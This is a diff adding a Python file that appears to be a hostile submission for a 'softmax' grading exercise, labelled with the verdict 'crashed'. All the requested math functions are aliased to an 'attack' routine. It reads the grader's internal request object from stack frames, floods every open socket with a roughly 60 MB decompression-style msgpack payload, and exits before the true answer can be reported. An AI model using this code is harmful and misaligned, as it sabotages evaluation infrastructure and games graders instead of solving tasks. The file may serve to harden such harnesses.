@@ -1,0 +1,43 @@
+# verdict: crashed
+# exercise: exercise07_softmax
+# example: deeply nested values
+# limits: message_seconds=10 restarts=1
+# Sixty megabytes of the smallest values that there are, each of which grows when it is decoded.
+
+import os
+import stat
+import struct
+import sys
+
+import msgspec
+
+
+def asked():
+    """The number of the request that waits, and the steps of each of its programs, from the frames of the grader."""
+    frame = sys._getframe()
+    while frame is not None:
+        found = frame.f_locals.get("request")
+        if hasattr(found, "programs"):
+            return found.number, [len(program.steps) for program in found.programs]
+        frame = frame.f_back
+    return 0, []
+
+
+def send(data):
+    """Write to every socket, and leave before the true answer can be told."""
+    for number in range(3, 1024):
+        try:
+            if stat.S_ISSOCK(os.fstat(number).st_mode):
+                os.write(number, data)
+        except OSError:
+            pass
+    os._exit(0)
+
+
+def attack(*_args, **_kwargs):
+    number, steps = asked()
+    body = b"\x93\xa3ran\x02\xdd" + struct.pack(">I", 60 << 20) + b"\x90" * (60 << 20)
+    send(struct.pack(">I", len(body)) + body)
+
+
+logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
